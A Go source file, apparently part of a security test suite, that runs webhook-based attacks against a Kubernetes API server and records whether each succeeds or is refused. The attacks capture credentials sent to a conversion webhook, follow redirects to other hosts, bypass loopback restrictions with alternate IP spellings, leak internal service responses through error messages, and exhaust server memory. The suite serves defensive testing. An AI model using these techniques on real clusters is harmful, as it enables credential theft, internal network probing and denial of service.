package attack

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"time"

	rbacv1 "k8s.io/api/rbac/v1"
)

// webhooks are attacks by a user who may write CRDs or webhook configurations: the server calls the URLs in them, from where it is and
// with what it has.
var webhooks = []Attack{{
	ID: "C6-webhook-credentials", What: "have the server send credentials to a conversion webhook",
	Run: credentialsForWebhook,
}, {
	ID: "C6-webhook-redirect", What: "have a conversion webhook redirect the server to another host",
	Run: redirectedWebhook,
}, {
	ID: "C6-webhook-loopback", What: "have the server connect to a loopback address that is no webhook's, in five spellings",
	Run: loopbackWebhook,
}, {
	ID: "C6-webhook-oracle-conversion", What: "read the answer of an internal HTTP service in the error of a conversion webhook",
	Run: func(ctx context.Context, s *Site) (Result, error) {
		return s.internalService(ctx, func(ctx context.Context, url string, ca []byte) (string, error) {
			w, err := s.converted(ctx, url, ca, 1)
			if err != nil {
				return "", err
			}
			_, text, err := w.user.Do(ctx, http.MethodGet, w.path("v2")+"/o-0", "", "")
			return text, err
		})
	},
}, {
	ID: "C6-webhook-oracle-admission", What: "read the answer of an internal HTTP service in the error of an admission webhook",
	Run: func(ctx context.Context, s *Site) (Result, error) { return s.internalService(ctx, s.admissionError) },
}, {
	ID: "C6-webhook-memory", What: "take memory with one list whose conversion webhook answers with 96 MiB",
	Run: largeConversion,
}}

// converting is a resource with two versions and a conversion webhook; its objects are stored in v1.
type converting struct {
	group string
	user  *Client // may read and write it
}

func (w *converting) path(version string) string {
	return "/apis/" + w.group + "/" + version + "/gadgets"
}

// converted creates a CRD with a conversion webhook, and objects of it.
func (s *Site) converted(ctx context.Context, url string, ca []byte, objects int) (*converting, error) {
	w := &converting{group: s.Name("hook") + ".example.com"}
	manifest := fmt.Sprintf(`{"apiVersion":"apiextensions.k8s.io/v1","kind":"CustomResourceDefinition","metadata":{"name":"gadgets.%[1]s"},"spec":{
		"group":%[1]q,"scope":"Cluster","names":{"plural":"gadgets","singular":"gadget","kind":"Gadget","listKind":"GadgetList"},
		"conversion":{"strategy":"Webhook","webhook":{"conversionReviewVersions":["v1"],"clientConfig":{"url":%[2]q,"caBundle":%[3]q}}},
		"versions":[{"name":"v1","served":true,"storage":true,"schema":%[4]s},{"name":"v2","served":true,"storage":false,"schema":%[4]s}]}}`,
		w.group, url, base64.StdEncoding.EncodeToString(ca), `{"openAPIV3Schema":{"type":"object","x-kubernetes-preserve-unknown-fields":true}}`)
	if err := s.CRD(ctx, manifest); err != nil {
		return nil, err
	}
	for i := range objects {
		if _, err := s.admin.Must(ctx, http.MethodPost, w.path("v1"), "application/json",
			fmt.Sprintf(`{"apiVersion":"%s/v1","kind":"Gadget","metadata":{"name":"o-%d"}}`, w.group, i)); err != nil {
			return nil, err
		}
	}
	var err error
	w.user, err = s.UserWith(ctx, "author", "", rbacv1.PolicyRule{Verbs: []string{"get", "list"}, APIGroups: []string{w.group}, Resources: []string{"gadgets"}})
	return w, err
}

// convert answers a ConversionReview; add goes into every converted object.
func convert(w http.ResponseWriter, req *http.Request, add string) {
	var review struct {
		Request struct {
			UID               string
			DesiredAPIVersion string
			Objects           []map[string]any
		}
	}
	if err := json.NewDecoder(req.Body).Decode(&review); err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	for _, o := range review.Request.Objects {
		o["apiVersion"] = review.Request.DesiredAPIVersion
		if add != "" {
			o["added"] = add
		}
	}
	w.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(w).Encode(map[string]any{"apiVersion": "apiextensions.k8s.io/v1", "kind": "ConversionReview", "response": map[string]any{
		"uid": review.Request.UID, "result": map[string]any{"status": "Success"}, "convertedObjects": review.Request.Objects,
	}})
}

func credentialsForWebhook(ctx context.Context, s *Site) (Result, error) {
	var calls atomic.Int64
	var sent atomic.Pointer[string]
	url, ca, err := s.Webhook(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		calls.Add(1)
		for _, name := range []string{"Authorization", "Cookie", "Proxy-Authorization", "Impersonate-User", "X-Remote-User"} {
			if value := req.Header.Get(name); value != "" {
				text := name + ": " + value
				sent.Store(&text)
			}
		}
		if req.TLS != nil && len(req.TLS.PeerCertificates) > 0 {
			text := "a certificate of " + req.TLS.PeerCertificates[0].Subject.String()
			sent.Store(&text)
		}
		convert(w, req, "")
	}))
	if err != nil {
		return Result{}, err
	}
	w, err := s.converted(ctx, url, ca, 1)
	if err != nil {
		return Result{}, err
	}
	code, text, err := w.user.Do(ctx, http.MethodGet, w.path("v2")+"/o-0", "", "")
	switch {
	case err != nil:
		return Result{}, err
	case code != http.StatusOK || calls.Load() == 0:
		return Result{}, fmt.Errorf("the webhook was called %d times, and the object was answered with %d: %.200s", calls.Load(), code, text)
	case sent.Load() != nil:
		return Succeeded("%.80s", *sent.Load()), nil
	}
	return Refused("%d calls without credentials", calls.Load()), nil
}

func redirectedWebhook(ctx context.Context, s *Site) (Result, error) {
	var reached atomic.Int64
	target, targetCA, err := s.Webhook(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		reached.Add(1)
		convert(w, req, "")
	}))
	if err != nil {
		return Result{}, err
	}
	url, ca, err := s.Webhook(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		http.Redirect(w, req, target, http.StatusTemporaryRedirect)
	}))
	if err != nil {
		return Result{}, err
	}
	w, err := s.converted(ctx, url, append(append(ca, '\n'), targetCA...), 1)
	if err != nil {
		return Result{}, err
	}
	code, _, err := w.user.Do(ctx, http.MethodGet, w.path("v2")+"/o-0", "", "")
	if err != nil {
		return Result{}, err
	}
	if reached.Load() > 0 {
		return Succeeded("the other host was called %d times", reached.Load()), nil
	}
	return Refused("%d", code), nil
}

// loopbackWebhook counts connections to a port of 127.0.0.2, which no flag allows for webhooks.
func loopbackWebhook(ctx context.Context, s *Site) (Result, error) {
	var connections atomic.Int64
	listener, err := new(net.ListenConfig).Listen(ctx, "tcp4", "127.0.0.2:0")
	if err != nil {
		return Absent("this machine has no 127.0.0.2"), nil //nolint:nilerr // Linux has it, others may not
	}
	server := httptest.NewUnstartedServer(http.NotFoundHandler())
	_ = server.Listener.Close()
	server.Listener = listener
	server.Config.ConnState = func(_ net.Conn, state http.ConnState) {
		if state == http.StateNew {
			connections.Add(1)
		}
	}
	server.StartTLS()
	defer server.Close()
	_, port, err := net.SplitHostPort(listener.Addr().String())
	if err != nil {
		return Result{}, err
	}
	codes := map[int]bool{}
	for _, host := range []string{"127.0.0.2", "[::ffff:127.0.0.2]", "[::ffff:7f00:2]", "0x7f.0.0.2", "2130706434"} {
		w, err := s.converted(ctx, "https://"+net.JoinHostPort(strings.Trim(host, "[]"), port), nil, 1)
		if err != nil {
			if strings.Contains(err.Error(), "422") {
				codes[http.StatusUnprocessableEntity] = true
				continue
			}
			return Result{}, err
		}
		code, _, err := w.user.Do(ctx, http.MethodGet, w.path("v2")+"/o-0", "", "")
		if err != nil {
			return Result{}, err
		}
		codes[code] = true
		if n := connections.Load(); n > 0 {
			return Succeeded("%d connections to %s", n, host), nil
		}
	}
	return Refused("no connection, codes %v", codes), nil
}

// internalText is a text that no user of the server can read directly.
const internalText = "internal-dashboard-of-127.0.0.1-only"

// internalService has the server call an HTTP service that is no webhook, by ask, and looks for its text in the user's answer.
func (s *Site) internalService(ctx context.Context, ask func(ctx context.Context, url string, ca []byte) (string, error)) (Result, error) {
	var calls atomic.Int64
	url, ca, err := s.Webhook(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		calls.Add(1)
		w.Header().Set("Content-Type", "text/plain")
		w.WriteHeader(http.StatusForbidden)
		_, _ = fmt.Fprintln(w, internalText)
	}))
	if err != nil {
		return Result{}, err
	}
	text, err := ask(ctx, url, ca)
	switch {
	case err != nil:
		return Result{}, err
	case calls.Load() == 0:
		return Result{}, fmt.Errorf("the service was not called: %.300s", text)
	case strings.Contains(text, internalText):
		return Succeeded("the error has the text of the service"), nil
	}
	return Refused("the error does not have the text"), nil
}

// admissionError creates a validating webhook at url and returns what a user is told whose object passes it.
func (s *Site) admissionError(ctx context.Context, url string, ca []byte) (string, error) {
	const path = "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations"
	namespace, err := s.Namespace(ctx)
	if err != nil {
		return "", err
	}
	name := s.Name("oracle")
	if _, err := s.admin.Must(ctx, http.MethodPost, path, "application/json", fmt.Sprintf(
		`{"apiVersion":"admissionregistration.k8s.io/v1","kind":"ValidatingWebhookConfiguration","metadata":{"name":%[1]q},"webhooks":[{"name":"%[1]s.example.com",
		"clientConfig":{"url":%[2]q,"caBundle":%[3]q},"admissionReviewVersions":["v1"],"sideEffects":"None",
		"namespaceSelector":{"matchLabels":{"kubernetes.io/metadata.name":%[4]q}},
		"rules":[{"apiGroups":[""],"apiVersions":["v1"],"operations":["CREATE"],"resources":["configmaps"]}]}]}`,
		name, url, base64.StdEncoding.EncodeToString(ca), namespace)); err != nil {
		return "", err
	}
	defer func() { _, _ = s.admin.Must(context.WithoutCancel(ctx), http.MethodDelete, path+"/"+name, "", "") }()
	user, err := s.UserWith(ctx, "author", namespace, rbacv1.PolicyRule{Verbs: []string{"create"}, APIGroups: []string{""}, Resources: []string{"configmaps"}})
	if err != nil {
		return "", err
	}
	for i := 0; ; i++ { // the webhook is called a moment after it is configured
		code, text, err := user.Do(ctx, http.MethodPost, "/api/v1/namespaces/"+namespace+"/configmaps", "application/json",
			fmt.Sprintf(`{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"c-%d"}}`, i))
		if err != nil || code >= http.StatusMultipleChoices {
			return text, err
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// grownBy is how much a server may grow while it answers one list.
const grownBy = 128 << 20

// largeConversion lists 64 objects of some hundred bytes. The conversion webhook makes each 1.5 MiB long.
func largeConversion(ctx context.Context, s *Site) (Result, error) {
	add := strings.Repeat("x", 3<<19)
	url, ca, err := s.Webhook(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) { convert(w, req, add) }))
	if err != nil {
		return Result{}, err
	}
	code := 0
	grown, err := s.growth(ctx, func(ctx context.Context) error {
		// kube-apiserver converts objects for its watch cache as they are written.
		w, err := s.converted(ctx, url, ca, 64)
		if err == nil {
			code, _, err = w.user.Do(ctx, http.MethodGet, w.path("v2"), "", "")
		}
		return err
	})
	if err != nil {
		return Result{}, err
	}
	if grown > grownBy {
		return Succeeded("%d, and %d MiB more", code, grown>>20), nil
	}
	return Refused("%d, at most %d MiB more", code, max(grown, 0)>>20), nil
}
